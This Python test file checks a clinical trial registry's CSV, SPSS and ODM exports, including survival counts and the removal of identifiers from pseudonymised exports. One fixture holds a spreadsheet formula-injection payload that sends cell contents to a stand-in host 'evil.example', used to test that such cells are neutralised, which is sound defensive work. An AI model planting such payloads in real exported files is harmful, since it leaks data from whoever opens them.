"""Every export read back: pandas, pyreadstat and an XML parser see what the registry holds,
and a pseudonymised export holds nobody's name, record number or date of birth."""

from __future__ import annotations

import csv
import datetime as dt
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pandas as pd
import pyreadstat
import pytest
from django.utils import timezone

from stromal.exports.formats.odm import ODM_NAMESPACE
from stromal.exports.services import export_write
from stromal.exports.tables import TABLES
from stromal.followup import services
from stromal.outcomes.cohort import CohortFilter, cohort_build
from stromal.outcomes.scope import Scope
from stromal.outcomes.survival import kaplan_meier, survival_by
from tests.followup.factories import DEAD, complete_with_instruments, discharged, visit_of
from tests.outcomes.factories import KM_COURSES, TODAY, Course, make_cohort
from tests.pathway.factories import START

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NS = {"odm": ODM_NAMESPACE}
D0 = TODAY.replace(year=2025)
EXTRA = (
    Course(
        "EX-1",
        D0,
        given_name="Oriel",
        family_name="Vantongeren",
        born=dt.date(1957, 8, 19),
        sex="male",
        fvc_pct=[(90, 71.5), (365, 78.0)],
        visits_done_until=365,
        adverse=[
            {
                "term": FORMULA,
                "onset_at": dt.datetime(2025, 12, 2, 9, tzinfo=dt.UTC),
                "ctcae_grade": 2,
                "graded_at": dt.datetime(2025, 12, 2, 12, tzinfo=dt.UTC),
                "relatedness": "possible",
            },
            {"term": "+SUM(1,2)", "onset_at": dt.datetime(2025, 12, 3, 9, tzinfo=dt.UTC)},
        ],
    ),
    Course(
        "EX-2",
        D0,
        protocol_code=START,
        arm="bmmsc_iv",
        aetiology="sepsis_non_pulmonary",
        berlin=(True, "severe"),
    ),
    Course(
        "EX-3",
        D0,
        arm=None,
        berlin=(False, None),
        aetiology=None,
        given_name="Brunhilde",
        born=dt.date(1949, 2, 28),
    ),
)


def _cohort(cast: Any) -> Any:
    make_cohort(cast, [*KM_COURSES, *EXTRA])
    return cohort_build(scope=Scope(None), filters=CohortFilter())


@pytest.fixture
def exported(cast: Any, tmp_path: Path) -> tuple[Any, Path]:
    cohort = _cohort(cast)
    export_write(
        cohort=cohort, out_dir=tmp_path, formats=["csv", "sav", "odm"], identified=False, chunk_patients=3
    )
    return cohort, tmp_path


def _csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype={"study_id": str}, keep_default_na=True)


def test_an_export_writes_every_table_in_every_format(exported: tuple[Any, Path]) -> None:
    _, out = exported
    names = {p.name for p in out.iterdir()}
    for table in TABLES:
        assert {f"{table.name}.csv", f"{table.name}.sav"} <= names
    assert {"data_dictionary.csv", "odm.xml"} <= names


def test_pandas_reproduces_the_cohort_counts(exported: tuple[Any, Path]) -> None:
    cohort, out = exported
    patients = _csv(out / "patients.csv")
    assert len(patients) == cohort.size == 8
    for arm in ("ucmsc_iv", "bmmsc_iv"):
        expected = cohort_build(scope=Scope(None), filters=CohortFilter(arm=arm)).size
        assert (patients["arm"] == arm).sum() == expected
    assert (
        patients["died"].sum()
        == cohort_build(scope=Scope(None), filters=CohortFilter(vital_status="dead")).size
    )
    # Day 1 Berlin severity, recomputed from the long table's stored assessments.
    long = _csv(out / "observations_long.csv")
    day1 = long[
        (long["event"] == "day1") & (long["instrument"] == "assessment") & (long["item"] == "berlin_severity")
    ]
    severe_ids = set(day1[day1["value_text"] == "severe"]["study_id"])
    assert len(severe_ids) == cohort_build(scope=Scope(None), filters=CohortFilter(berlin="severe")).size == 1


def test_pandas_reproduces_the_kaplan_meier_estimate_of_the_survival_page(exported: tuple[Any, Path]) -> None:
    cohort, out = exported
    patients = _csv(out / "patients.csv")
    durations = patients["death_day"].where(patients["died"] == 1, patients["last_contact_day"])
    mine = kaplan_meier("all", list(durations.astype(float)), list(patients["died"] == 1))
    page = next(iter(survival_by(cohort, "none").curves))
    assert [(s.day, s.at_risk, s.survival) for s in mine.steps] == [
        (s.day, s.at_risk, s.survival) for s in page.steps
    ]
    # The five patients worked by hand sit inside: deaths on days 10 and 20 among the first steps.
    assert [s.day for s in mine.steps if s.deaths] == [10.0, 20.0]


def test_the_long_table_holds_every_recorded_value_with_its_time_and_version(
    exported: tuple[Any, Path],
) -> None:
    _, out = exported
    long = _csv(out / "observations_long.csv")
    assert list(long.columns) == [v.name for v in TABLES[-1].columns(identified=False)]
    fvc = long[(long["instrument"] == "spirometry") & (long["item"] == "fvc_percent_predicted")]
    assert sorted(zip(fvc["event"], fvc["day"], fvc["value"], strict=True)) == [
        ("m3", 90, 71.5),
        ("y1", 365, 78.0),
    ]
    pf = long[(long["item"] == "pf_ratio")]
    assert set(pf["version"]) == {"2026.11.2"} and set(pf["day"]) == {0}
    vitals = long[long["instrument"] == "infusion_vitals"]
    assert set(vitals["event"]) >= {"administration_1"} and set(vitals["minute"]) == {15.0}


def test_spss_files_open_with_variable_and_value_labels(exported: tuple[Any, Path]) -> None:
    _, out = exported
    for table in TABLES:
        frame, meta = pyreadstat.read_sav(out / f"{table.name}.sav")
        rows = _csv(out / f"{table.name}.csv")
        assert len(frame) == len(rows), table.name
        assert list(frame.columns) == [v.name for v in table.columns(identified=False)]
        assert all(meta.column_names_to_labels[v.name] for v in table.columns(identified=False))
    frame, meta = pyreadstat.read_sav(out / "patients.sav")
    assert meta.variable_value_labels["sex"] == {1.0: "Female", 2.0: "Male"}
    assert meta.variable_value_labels["died"] == {1.0: "Yes", 0.0: "No"}
    assert meta.column_names_to_labels["age_at_enrolment_years"] == "Age at enrolment (years)"
    labelled, _ = pyreadstat.read_sav(out / "patients.sav", apply_value_formats=True)
    assert sorted(labelled["sex"].value_counts().items()) == [("Female", 7), ("Male", 1)]


def test_odm_parses_and_its_item_definitions_match_the_data_dictionary(exported: tuple[Any, Path]) -> None:
    cohort, out = exported
    root = ET.parse(out / "odm.xml").getroot()
    assert root.tag == f"{{{ODM_NAMESPACE}}}ODM" and root.get("ODMVersion") == "1.3.2"
    with (out / "data_dictionary.csv").open(encoding="utf-8") as handle:
        dictionary = list(csv.DictReader(handle))
    types = {
        "text": "text",
        "dropdown": "text",
        "integer": "integer",
        "number": "float",
        "yesno": "integer",
        "date": "date",
    }
    mdv = root.find("odm:Study/odm:MetaDataVersion", NS)
    assert mdv is not None
    item_defs = {d.get("OID"): d for d in mdv.findall("odm:ItemDef", NS)}
    for group in mdv.findall("odm:ItemGroupDef", NS):
        form = group.get("Name")
        defined = {
            item_defs[ref.get("ItemOID")].get("Name"): item_defs[ref.get("ItemOID")].get("DataType")
            for ref in group.findall("odm:ItemRef", NS)
        }
        listed = {
            row["variable_name"]: types[row["field_type"]]
            for row in dictionary
            if row["form_name"] == form and row["variable_name"] != "study_id"
        }
        assert defined == listed, form
    subjects = root.findall("odm:ClinicalData/odm:SubjectData", NS)
    assert sorted(s.get("SubjectKey") for s in subjects) == sorted(r.study_id for r in cohort.rows)
    code_lists = {c.get("OID") for c in mdv.findall("odm:CodeList", NS)}
    for d in item_defs.values():
        ref = d.find("odm:CodeListRef", NS)
        assert ref is None or ref.get("CodeListOID") in code_lists


def test_a_pseudonymised_export_holds_no_name_record_number_or_date_of_birth(
    cast: Any, exported: tuple[Any, Path]
) -> None:
    _, out = exported
    from stromal.patients.models import Patient

    text = "\n".join(p.read_bytes().decode("utf-8", errors="replace") for p in out.iterdir())
    for patient in Patient.objects.all():
        for secret in (
            patient.given_name,
            patient.family_name,
            patient.mrn,
            patient.date_of_birth.isoformat(),
            patient.email,
        ):
            assert secret not in text, secret


def test_a_cell_that_would_start_a_formula_is_neutralised(exported: tuple[Any, Path]) -> None:
    _, out = exported
    with (out / "adverse_events.csv").open(encoding="utf-8") as handle:
        terms = [row["term"] for row in csv.DictReader(handle)]
    assert "'" + FORMULA in terms and "'+SUM(1,2)" in terms
    assert not any(t.startswith(("=", "+", "-", "@")) for t in terms)


def test_an_identified_export_adds_the_identities_and_the_calendar_dates(cast: Any, tmp_path: Path) -> None:
    cohort = _cohort(cast)
    export_write(cohort=cohort, out_dir=tmp_path, formats=["csv"], identified=True)
    patients = _csv(tmp_path / "patients.csv")
    oriel = patients[patients["family_name"] == "Vantongeren"].iloc[0]
    assert (
        oriel["mrn"] == "EX-1"
        and oriel["date_of_birth"] == "1957-08-19"
        and oriel["enrolment_date"] == str(D0)
    )
    with (tmp_path / "data_dictionary.csv").open(encoding="utf-8") as handle:
        flagged = {row["variable_name"] for row in csv.DictReader(handle) if row["identifier"] == "y"}
    assert {"mrn", "given_name", "family_name", "date_of_birth"} <= flagged


def test_chunks_do_not_change_what_is_written(cast: Any, tmp_path: Path) -> None:
    cohort = _cohort(cast)
    export_write(
        cohort=cohort, out_dir=tmp_path / "one", formats=["csv", "odm"], identified=False, chunk_patients=1
    )
    export_write(
        cohort=cohort, out_dir=tmp_path / "all", formats=["csv", "odm"], identified=False, chunk_patients=1000
    )
    for table in TABLES:
        name = f"{table.name}.csv"
        assert (tmp_path / "one" / name).read_text() == (tmp_path / "all" / name).read_text()
    stamped = re.compile(r'(CreationDateTime|FileOID)="[^"]*"')
    one, whole = (stamped.sub("", (tmp_path / d / "odm.xml").read_text()) for d in ("one", "all"))
    assert one == whole and "SubjectData" in one


def _died_at_one_year(cast: Any) -> tuple[Any, dt.date]:
    plan = discharged(cast, days_ago=400)
    y1 = visit_of(plan, "y1")
    died = timezone.localdate()  # the factories discharge today; a death before it is refused
    entry = {
        **DEAD,
        "date_of_death": died.isoformat(),
        "cause_of_death_detail": "Told by Ms Quillfeather, the niece",
    }
    services.visit_record(
        visit=y1,
        user=cast.cora,
        version=y1.version,
        entries={"vital_status": services.InstrumentEntry(entry)},
        completed_on=died,
        complete=True,
    )
    return plan, died


def test_a_pseudonymised_export_gives_instrument_dates_as_days_and_leaves_their_free_text_out(
    cast: Any, tmp_path: Path
) -> None:
    plan, died = _died_at_one_year(cast)
    cohort = cohort_build(scope=Scope(None), filters=CohortFilter())
    export_write(cohort=cohort, out_dir=tmp_path, formats=["csv", "sav", "odm"], identified=False)
    # The day of death is today (the files' own creation stamps hold today too): read the data only.
    text = "\n".join(p.read_text(encoding="utf-8") for p in tmp_path.glob("*.csv"))
    text += "\n".join(
        e.get("Value", "") for e in ET.parse(tmp_path / "odm.xml").iter(f"{{{ODM_NAMESPACE}}}ItemData")
    )
    assert died.isoformat() not in text and "Quillfeather" not in text
    sav, _ = pyreadstat.read_sav(str(tmp_path / "observations_long.sav"))
    assert not sav["value_text"].astype(str).str.contains("Quillfeather|" + died.isoformat()).any()
    rows = _csv(tmp_path / "observations_long.csv")
    death = rows[(rows["instrument"] == "vital_status") & (rows["item"] == "date_of_death")].iloc[0]
    enrolment = cohort.by_id[plan.patient_id].enrolment
    assert death["value"] == (died - enrolment).days and death["unit"] == "days since enrolment"


def test_an_identified_export_keeps_the_instrument_dates_and_free_text(cast: Any, tmp_path: Path) -> None:
    _, died = _died_at_one_year(cast)
    cohort = cohort_build(scope=Scope(None), filters=CohortFilter())
    export_write(cohort=cohort, out_dir=tmp_path, formats=["csv"], identified=True)
    text = (tmp_path / "observations_long.csv").read_text(encoding="utf-8")
    assert died.isoformat() in text and "Quillfeather" in text


def test_yes_no_answers_are_numbers_1_and_0_not_text(cast: Any, tmp_path: Path) -> None:
    plan = discharged(cast, days_ago=400)
    complete_with_instruments(visit_of(plan, "m6"), cast.nina)
    cohort = cohort_build(scope=Scope(None), filters=CohortFilter())
    export_write(cohort=cohort, out_dir=tmp_path, formats=["csv"], identified=False)
    rows = _csv(tmp_path / "observations_long.csv")
    oxygen = rows[rows["item"] == "oxygen_used"].iloc[0]
    assert oxygen["value"] == 0 and pd.isna(oxygen["value_text"])
    assert not rows["value_text"].isin(["True", "False", "null"]).any()
